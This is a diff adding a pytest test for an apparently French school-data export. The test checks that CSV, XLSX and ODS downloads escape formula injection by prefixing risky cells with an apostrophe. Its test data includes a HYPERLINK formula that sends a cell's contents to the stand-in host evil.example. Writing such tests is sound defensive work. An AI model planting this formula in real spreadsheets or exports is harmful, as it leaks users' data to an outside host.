@@ -1,5 +1,7 @@
 """One CSV dialect for every download, and school years counted from 1 September."""
 
+import io
+import zipfile
 from datetime import date
 
 import pytest
@@ -45,3 +47,30 @@ def test_school_year_labels_bounds_and_choices():
         (2025, "2025-2026"),
         (2024, "2024-2025"),
     ]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Cliquez ici")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
+def test_text_that_a_spreadsheet_would_run_is_kept_as_text(fmt):
+    dataset = tablib.Dataset(
+        [HOSTILE, "+32 2 123 45 67", "-1+1", "@SUM(A1)", "\tTab", "Athénée", 42, -3],
+        headers=["a", "b", "c", "d", "e", "f", "g", "h"],
+    )
+    content = dataset_response(dataset, fmt, "x").content
+    cells = tablib.Dataset().load(
+        content.decode("utf-8-sig") if fmt == "csv" else content,
+        format=fmt,
+        **({"delimiter": ";"} if fmt == "csv" else {}),
+    )[0]
+    assert list(cells[:5]) == ["'" + HOSTILE, "'+32 2 123 45 67", "'-1+1", "'@SUM(A1)", "'\tTab"]
+    assert cells[5] == "Athénée"
+    assert [float(value) for value in cells[6:]] == [42, -3]  # numbers stay numbers
+    if fmt == "xlsx":
+        assert b"<f>" not in _sheet_xml(content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))
